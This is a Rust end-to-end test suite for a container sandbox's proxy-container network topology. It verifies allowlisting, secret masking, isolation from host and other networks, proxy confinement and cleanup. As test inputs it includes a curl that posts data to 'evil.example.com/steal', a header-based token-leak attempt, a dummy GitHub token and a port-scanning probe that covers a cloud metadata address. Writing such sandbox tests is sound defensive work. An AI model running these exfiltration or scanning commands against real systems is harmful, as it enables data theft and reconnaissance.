//! The second topology: the workload shares a network with a proxy container and with nobody else.

use std::{
    fs,
    io::{BufRead, BufReader},
    net::Ipv4Addr,
    process::{Command, Stdio},
    sync::atomic::Ordering,
    thread,
    time::{Duration, Instant},
};

use rustix::process::Signal;

use crate::host::{host_addresses, host_service};
use crate::outside::Outside;
use crate::setup::{BUSYBOX, DEBIAN, Run, Setup, cordon, eventually, on_every_engine, read_all};

/// Waits for a list of targets, tries each over TCP and UDP, and says what answers over TCP. Link-local
/// addresses are tried on the container's own interface.
const PROBE: &str = r#"
import concurrent.futures, os, socket, time
open("ready", "w").close()
while not os.path.exists("targets"):
    time.sleep(0.05)
def probe(target):
    host, _, port = target.rpartition("@")
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    address = (host, int(port))
    if host.startswith("fe80:"):
        address = (host, int(port), 0, socket.if_nametoindex("eth0"))
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(b"probe", address)
        except OSError:
            pass
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        try:
            s.connect(address)
            return True
        except OSError:
            return False
targets = open("targets").read().split()
if any(target.startswith("fe80:") for target in targets):
    time.sleep(3) # An interface with IPv6 cannot send before it knows that its address is its own.
with concurrent.futures.ThreadPoolExecutor(64) as pool:
    for target, found in zip(targets, pool.map(probe, targets)):
        if found:
            print("open", target)
print("done")
"#;

/// No credential of anybody's.
const TOKEN: &str = "ghp_9z8Y7x6W5v4U3t2S1r0Q9p8O7n6M5l4K3j2I";

/// The address that names have, which is the proxy's.
const PROXY: &str = "$(sed -n 's/nameserver //p' /etc/resolv.conf)";

on_every_engine! {
    fn an_allowed_host_is_reached_and_recorded(setup) {
        let outside = Outside::new(&["api.example.com"]);
        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com"])
            .sh("for version in --http1.1 --http2; do curl -sS -o /dev/null -w '%{http_code}\\n' $version https://api.example.com/echo; done; curl -sS -o /dev/null -w '%{http_code}\\n' http://api.example.com/");
        let ended = run.end();
        assert_eq!((ended.code, ended.stdout.as_str()), (0, "200\n200\n200\n"), "{ended:?} {}", run.network_log());
        let log = run.network_log();
        assert_eq!(log.matches("ALLOWED GET https://api.example.com/echo -> 200").count(), 2, "{log}");
        assert_eq!(log.matches("=== TASK START").count(), 1, "{log}");
        let lines = fs::read_to_string(run.path("network.jsonl")).unwrap();
        assert_eq!(lines.matches("\"verdict\":\"allowed\"").count(), 3, "{lines}");
        assert_eq!(left_by(setup, ended.pid), Vec::<String>::new());
    }

    fn a_host_that_is_not_listed_is_refused_and_never_dialled(setup) {
        let outside = Outside::new(&["evil.example.com"]);
        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com"])
            .sh("curl -sS -w '\\n%{http_code}\\n' https://evil.example.com/steal?x=1 -d data");
        let ended = run.end();
        assert!(ended.stdout.ends_with("\n403\n"), "{ended:?}");
        assert!(ended.stdout.contains("blocked_by_network_allowlist"), "{ended:?}");
        assert_eq!(outside.origin.connections(), 0);
        assert!(run.network_log().contains("BLOCKED POST https://evil.example.com/steal?x=1 -> 403"), "{}", run.network_log());
    }

    fn a_secret_reaches_its_host_and_no_argument_file_or_record_of_the_engine(setup) {
        let outside = Outside::new(&["*.example.com"]);
        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com", "other.example.com"])
            .flags(["--config", "sandbox.yaml"]).env("REAL_TOKEN", TOKEN)
            .sh("curl -sS -H \"Authorization: Bearer $GH_TOKEN\" https://api.example.com/echo; curl -sS -H \"X-Leak: $GH_TOKEN\" https://other.example.com/; touch asked; sleep 2");
        let config = "masked_secrets:\n  GH_TOKEN:\n    value: !env REAL_TOKEN\n    scopes: [api.example.com]\n    headers: [Authorization]\n";
        fs::write(run.path("sandbox.yaml"), config).unwrap();
        let running = run.start();
        eventually("it has asked", Duration::from_secs(30), || run.path("asked").exists());
        let names = setup.containers_of(running.pid());
        assert_eq!(names.len(), 2);
        let mut seen: String = names.iter().map(|name| setup.ask(&["container", "inspect", name])).collect();
        for process in fs::read_dir("/proc").unwrap().flatten() {
            seen += &String::from_utf8_lossy(&fs::read(process.path().join("cmdline")).unwrap_or_default());
        }
        let ended = running.end();
        seen += &read_all(&run.path(""));
        seen += &format!("{ended:?}");
        assert_eq!(outside.origin.authorizations(), [format!("Bearer {TOKEN}")]);
        assert!(!seen.contains(TOKEN));
        let log = run.network_log();
        assert!(log.contains("[masked: 1]") && log.contains("ALARM"), "{log}");
    }

    fn the_hosts_services_are_out_of_reach_on_every_address_of_every_bridge(setup) {
        let (port, heard) = host_service();
        let found = probe(setup, |_| host_addresses().iter().map(|address| format!("{address}@{port}")).collect());
        assert_eq!(found, Vec::<String>::new());
        assert_eq!(heard.load(Ordering::SeqCst), 0);
    }

    fn on_its_own_network_there_is_nothing_but_the_three_ports_of_the_proxy(setup) {
        let (port, heard) = host_service();
        let mut proxy = String::new();
        let found = probe(setup, |resolver| {
            proxy = resolver.to_owned();
            let (net, last) = resolver.rsplit_once('.').unwrap();
            let base = last.parse::<u8>().unwrap() - 2;
            (base + 1..base + 15)
                .flat_map(|host| [22, 53, 80, 443, 2375, 8080, port].map(|port| format!("{net}.{host}@{port}")))
                .collect()
        });
        let expected: Vec<_> = [53, 80, 443].iter().map(|port| format!("{proxy}@{port}")).collect();
        assert_eq!(found, expected);
        assert_eq!(heard.load(Ordering::SeqCst), 0);
    }

    fn raw_addresses_and_other_networks_are_out_of_reach(setup) {
        let targets = [
            "198.51.100.7@80", "198.51.100.7@443", "1.1.1.1@53", "8.8.8.8@443", "169.254.169.254@80", "10.0.0.1@443",
            "10.88.0.1@53", "10.89.0.1@53", "172.17.0.1@80", "172.18.0.1@80", "192.168.0.1@22", "127.0.0.11@53", "2001:db8::1@443", "fe80::1@80",
        ];
        // Docker's own name server is in every container, and the next test shows that it knows nothing.
        let found = probe(setup, |_| targets.map(str::to_owned).into());
        let found: Vec<_> = found.iter().filter(|target| *target != "127.0.0.11@53").collect();
        assert_eq!(found, Vec::<&String>::new());
    }

    fn no_name_server_answers_but_the_proxy(setup) {
        let script = format!("proxy={PROXY}; for server in 1.1.1.1 127.0.0.11 10.88.0.1 10.89.0.1 172.17.0.1 192.0.2.1 ${{proxy%.*}}.1; do \
                      dig +time=1 +tries=1 +short @$server example.com A | grep -v '^;' | sed \"s/^/$server says /\"; done; \
                      [ \"$(dig +short example.com A)\" = $proxy ] && [ \"$(dig +tcp +short example.org A)\" = $proxy ] && echo the proxy answers; \
                      dig +short example.com AAAA; getent ahosts cordon-proxy | grep -v $proxy");
        let ended = beside(setup).image(DEBIAN).sh(&script).end();
        assert_eq!(ended.stdout, "the proxy answers\n", "{ended:?}");
    }

    fn the_container_has_no_ipv6_and_no_route_to_anybody_who_forwards(setup) {
        let ended = beside(setup).image(DEBIAN).sh("cat /proc/net/if_inet6; tail -n +2 /proc/net/route | cut -f 2,3").end();
        let routes: Vec<_> = ended.stdout.lines().collect();
        // Docker writes a route to a gateway that does not exist.
        let to_nobody = routes.iter().filter(|route| route.starts_with("00000000")).count();
        assert_eq!(to_nobody, usize::from(setup == Setup::Docker), "{ended:?}");
        assert_eq!(routes.len() - to_nobody, 1, "{ended:?}");
    }

    fn the_proxy_container_is_confined_and_forwards_nothing(setup) {
        let running = beside(setup).start_script("sleep 60");
        let pid = running.pid();
        let names = setup.containers_of(pid);
        let name = names.iter().find(|name| name.ends_with("-proxy")).unwrap();
        let process = setup.ask(&["inspect", "--format", "{{.State.Pid}}", name]);
        let process = process.trim();
        let status = fs::read_to_string(format!("/proc/{process}/status")).unwrap();
        let field = |name: &str| status.lines().find_map(|line| line.strip_prefix(name)).unwrap().trim().to_owned();
        assert_eq!(field("CapEff:"), "0000000000000000");
        assert_eq!(field("CapBnd:"), "0000000000000000");
        assert_eq!(field("NoNewPrivs:"), "1");
        assert_ne!(field("Uid:").split_whitespace().next(), Some("0"));
        let inside = |file: &str| {
            let output = Command::new("nsenter").args(["-t", process, "-n", "cat", file]).output().unwrap();
            String::from_utf8(output.stdout).unwrap()
        };
        assert_eq!(inside("/proc/sys/net/ipv4/ip_forward"), "0\n");
        assert_eq!(inside("/proc/net/if_inet6"), "");
        let rootfs = setup.ask(&["inspect", "--format", "{{.HostConfig.ReadonlyRootfs}} {{.HostConfig.Memory}}", name]);
        // Without root, limits need version 2 of the control groups.
        let memory = if setup == Setup::Rootless { rootfs.trim().rsplit(' ').next().unwrap() } else { "536870912" };
        assert_eq!(rootfs.trim(), format!("true {memory}"));
        running.signal(Signal::TERM);
        running.end();
        assert_eq!(left_by(setup, pid), Vec::<String>::new());
    }

    fn on_its_way_out_the_proxy_listens_nowhere(setup) {
        let running = beside(setup).start_script("sleep 60");
        let names = setup.containers_of(running.pid());
        let name = names.iter().find(|name| name.ends_with("-proxy")).unwrap();
        let process = setup.ask(&["inspect", "--format", "{{.State.Pid}}", name]);
        let listening = fs::read_to_string(format!("/proc/{}/net/tcp", process.trim())).unwrap();
        let addresses: std::collections::BTreeSet<_> = listening.lines()
            .filter(|line| line.split_whitespace().nth(3) == Some("0A"))
            .map(|line| line.split_whitespace().nth(1).unwrap().split(':').next().unwrap().to_owned())
            .filter(|address| address != "0B00007F") // Docker's own name server, on loopback.
            .collect();
        assert_eq!(addresses.len(), 1, "{listening}");
        assert!(!addresses.contains("00000000"), "{listening}");
        running.signal(Signal::TERM);
        running.end();
    }

    fn a_packet_with_a_route_through_the_proxy_is_not_forwarded(setup) {
        let running = beside(setup).start_script("sleep 60");
        let names = setup.containers_of(running.pid());
        let process = |of_the_proxy: bool| {
            let name = names.iter().find(|name| name.ends_with("-proxy") == of_the_proxy).unwrap();
            setup.ask(&["inspect", "--format", "{{.State.Pid}}", name]).trim().to_owned()
        };
        let (workload, proxy) = (process(false), process(true));
        let resolver = fs::read_to_string(format!("/proc/{workload}/root/etc/resolv.conf")).unwrap();
        let address = resolver.trim().strip_prefix("nameserver ").unwrap();
        // The workload may not set a route; here the host's root does it in its place.
        let within = |command: &[&str]| {
            let status = Command::new("nsenter").args(["-t", &workload, "-n"]).args(command).status().unwrap();
            assert!(status.success(), "{command:?}");
        };
        let dropped = ip_counter(&proxy, "InAddrErrors");
        within(&["ip", "route", "replace", "198.51.100.0/24", "via", address]);
        let send = || within(&["bash", "-c", "echo probe > /dev/udp/198.51.100.7/4242"]);
        if setup == Setup::Docker {
            // Docker's own firewall lets nothing through that is not for the network.
            for _ in 0..10 {
                send();
            }
        } else {
            eventually("the proxy has got a packet and dropped it", Duration::from_secs(20), || {
                send();
                ip_counter(&proxy, "InAddrErrors") > dropped
            });
        }
        assert_eq!(ip_counter(&proxy, "ForwDatagrams"), 0);
        running.signal(Signal::TERM);
        running.end();
    }

    fn events_pass_the_proxy_container_one_by_one(setup) {
        let outside = Outside::new(&["api.example.com"]);
        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com"])
            .sh("curl -sSN 'https://api.example.com/events?count=4&pause=700'");
        let mut running = run.start();
        let lines = BufReader::new(running.child.stdout.take().unwrap()).lines();
        let times: Vec<_> = lines.map_while(Result::ok).filter(|line| line.starts_with("data:")).map(|_| Instant::now()).collect();
        let ended = running.end();
        assert_eq!(ended.code, 0, "{ended:?} {}", run.network_log());
        assert_eq!(times.len(), 4);
        for pair in times.windows(2) {
            let gap = pair[1] - pair[0];
            assert!(gap.as_millis() > 300, "events came together: {gap:?}");
        }
    }

    fn a_run_keeps_its_way_out_when_others_end(setup) {
        let outside = Outside::new(&["api.example.com"]);
        let others: Vec<_> = (0..3).map(|_| beside(setup).start_script("sleep 300")).collect();
        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com"]).sh(
            "ask() { curl -sS --max-time 15 -o /dev/null -w '%{http_code}\\n' https://api.example.com/echo; }; \
             ask; touch asked; until [ -e alone ]; do sleep 0.1; done; ask; ask",
        );
        let running = run.start();
        eventually("it has asked", Duration::from_secs(60), || run.path("asked").exists());
        for other in others {
            other.signal(Signal::TERM);
            other.end();
        }
        fs::write(run.path("alone"), "").unwrap();
        let ended = running.end();
        assert_eq!(ended.stdout, "200\n200\n200\n", "{ended:?} {}", run.network_log());
    }

    fn two_runs_side_by_side_do_not_reach_each_other(setup) {
        let other = beside(setup).image(DEBIAN).sh("hostname -I | cut -d' ' -f1 > address; sed -n 's/nameserver //p' /etc/resolv.conf > proxy; touch ready; exec python3 -m http.server --bind 0.0.0.0 4242 >&2");
        let running = other.start();
        eventually("the other run serves", Duration::from_secs(30), || other.path("ready").exists());
        let read = |name: &str| fs::read_to_string(other.path(name)).unwrap().trim().to_owned();
        let (address, proxy) = (read("address"), read("proxy"));
        assert!(address.parse::<Ipv4Addr>().is_ok() && address != proxy, "{address} {proxy}");
        let found = probe(setup, |own| {
            assert_ne!(own, proxy);
            vec![format!("{address}@4242"), format!("{proxy}@53"), format!("{proxy}@80"), format!("{proxy}@443")]
        });
        assert_eq!(found, Vec::<String>::new());
        let pid = running.pid();
        running.signal(Signal::TERM);
        running.end();
        assert_eq!(left_by(setup, pid), Vec::<String>::new());
    }

    fn when_the_host_process_is_killed_both_containers_die_and_the_next_run_removes_the_network(setup) {
        let running = beside(setup).start_script("trap '' TERM INT HUP; while :; do sleep 0.1; done");
        let pid = running.pid();
        assert_eq!(setup.containers_of(pid).len(), 2);
        running.signal(Signal::KILL);
        running.end();
        eventually("both containers are gone", Duration::from_secs(30), || setup.containers_of(pid).is_empty());
        beside(setup).command(["true"]).succeed();
        assert_eq!(left_by(setup, pid), Vec::<String>::new());
    }

    fn a_run_that_is_killed_while_it_starts_leaves_nothing_to_the_next(setup) {
        let mut pids = Vec::new();
        for delay in [100, 250, 400, 600, 900] {
            let running = beside(setup).sh("sleep 60").start();
            pids.push(running.pid());
            thread::sleep(Duration::from_millis(delay));
            running.signal(Signal::KILL);
            running.end();
        }
        // Calls of the engine that were under way end by themselves.
        thread::sleep(Duration::from_secs(2));
        beside(setup).command(["true"]).succeed();
        for pid in pids {
            assert_eq!(left_by(setup, pid), Vec::<String>::new());
        }
    }

    fn stop_and_timeout_leave_nothing(setup) {
        let ended = beside(setup).flags(["--timeout", "3"]).sh("sleep 300").end();
        assert_eq!(ended.code, 124, "{ended:?}");
        assert_eq!(left_by(setup, ended.pid), Vec::<String>::new());
        let running = beside(setup).sh("sleep 300").start();
        let pid = running.pid();
        thread::sleep(Duration::from_millis(300));
        running.signal(Signal::TERM);
        assert_eq!(running.end().code, 143);
        eventually("nothing is left", Duration::from_secs(30), || left_by(setup, pid).is_empty());
    }

    fn a_run_whose_proxy_is_lost_fails_and_its_command_ends(setup) {
        let running = beside(setup).start_script("sleep 300");
        let pid = running.pid();
        let names = setup.containers_of(pid);
        let name = names.iter().find(|name| name.ends_with("-proxy")).unwrap();
        setup.ask(&["kill", name]);
        let ended = running.end();
        assert_eq!(ended.code, 125, "{ended:?}");
        assert!(ended.stderr.contains("the proxy container was lost"), "{ended:?}");
        assert_eq!(left_by(setup, pid), Vec::<String>::new());
    }

    fn a_proxy_that_does_not_get_ready_fails_the_run_before_the_command(setup) {
        let place = tempfile::Builder::new().prefix("cordon-e2e-").tempdir_in("/tmp").unwrap();
        fs::set_permissions(place.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
        let program = place.path().join("cordon");
        fs::copy(cordon(), &program).unwrap();
        let run = |proxy: &str| {
            fs::copy(proxy, place.path().join("cordon-proxy")).unwrap();
            let child = setup.command(&program).current_dir(place.path())
                .args(["run", "--engine", setup.engine(), "--topology", "proxy-container", "--image", BUSYBOX, "--", "touch", "ran"])
                .stdin(Stdio::null()).stderr(Stdio::piped()).env_remove("XDG_CACHE_HOME").spawn().unwrap();
            let pid = child.id();
            let output = child.wait_with_output().unwrap();
            assert_eq!(output.status.code(), Some(125), "{output:?}");
            assert!(!place.path().join("ran").exists());
            assert_eq!(left_by(setup, pid), Vec::<String>::new());
            String::from_utf8(output.stderr).unwrap()
        };
        let said = run("/usr/sbin/ldconfig");
        assert!(said.contains("the proxy container does not serve"), "{said}");
        let said = run("/bin/true");
        assert!(said.contains("is not a static program"), "{said}");
    }

    fn auto_takes_the_door_here_and_says_so(setup) {
        let ended = Run::new(setup).flags(["--verbose"]).command(["true"]).succeed();
        assert!(ended.stderr.contains("connected by the door"), "{ended:?}");
    }
}

#[test]
fn auto_takes_the_proxy_container_where_the_engine_is_elsewhere_and_says_so() {
    let socket = tempfile::tempdir().unwrap();
    let address = format!("unix://{}", socket.path().join("podman.sock").display());
    let mut service = Command::new("podman")
        .args([
            "--runtime",
            "runc",
            "system",
            "service",
            "--time",
            "0",
            &address,
        ])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    eventually("podman serves", Duration::from_secs(30), || {
        socket.path().join("podman.sock").exists()
    });
    let run = Run::new(Setup::Podman).env("CONTAINER_HOST", &address);
    let ended = run.sh("cut -f 1 /proc/net/route | sort -u").end();
    let refused = Run::new(Setup::Podman)
        .env("CONTAINER_HOST", &address)
        .flags(["--topology", "door"])
        .command(["true"])
        .end();
    service.kill().unwrap();
    service.wait().unwrap();
    assert_eq!(
        (ended.code, ended.stdout.as_str()),
        (0, "Iface\neth0\n"),
        "{ended:?}"
    );
    assert!(
        ended
            .stderr
            .contains("warning: containers are connected by a proxy container"),
        "{ended:?}"
    );
    assert_eq!(refused.code, 125, "{refused:?}");
    assert!(
        refused.stderr.contains("the door cannot be opened"),
        "{refused:?}"
    );
}

/// A run in this topology.
fn beside(setup: Setup) -> Run {
    Run::new(setup).flags(["--topology", "proxy-container"])
}

/// What of these targets answers from inside a container; the proxy's address is told first.
fn probe(setup: Setup, targets: impl FnOnce(&str) -> Vec<String>) -> Vec<String> {
    let run = beside(setup).image(DEBIAN).sh(&format!(
        "echo {PROXY} > proxy; exec python3 -c \"$0\" 2>&1"
    ));
    let run = run.command_with(&[PROBE]);
    let running = run.start();
    eventually("the probe waits", Duration::from_secs(30), || {
        run.path("ready").exists()
    });
    let proxy = fs::read_to_string(run.path("proxy")).unwrap();
    let list = targets(proxy.trim()).join("\n");
    fs::write(run.path("list"), list).unwrap();
    fs::rename(run.path("list"), run.path("targets")).unwrap();
    let ended = running.end();
    assert!(ended.stdout.ends_with("done\n"), "{ended:?}");
    assert_eq!(left_by(setup, ended.pid), Vec::<String>::new());
    let found = ended
        .stdout
        .lines()
        .filter_map(|line| line.strip_prefix("open "));
    found.map(str::to_owned).collect()
}

/// One of the kernel's counters of IPv4 packets, in the network of a process.
fn ip_counter(process: &str, name: &str) -> u64 {
    let text = fs::read_to_string(format!("/proc/{process}/net/snmp")).unwrap();
    let mut lines = text.lines().filter_map(|line| line.strip_prefix("Ip: "));
    let (names, values) = (lines.next().unwrap(), lines.next().unwrap());
    let mut pairs = names.split(' ').zip(values.split(' '));
    let (_, value) = pairs.find(|(found, _)| *found == name).unwrap();
    value.parse().unwrap()
}

/// Everything that the process with this id left, networks among it.
fn left_by(setup: Setup, pid: u32) -> Vec<String> {
    let listed = setup.ask(&["network", "ls", "--format", "{{.Name}}"]);
    let mark = format!("-{pid}-");
    let networks = listed.lines().filter(|name| name.contains(&mark));
    let mut left = setup.left_by(pid);
    left.extend(networks.map(|name| format!("network {name}")));
    left
}
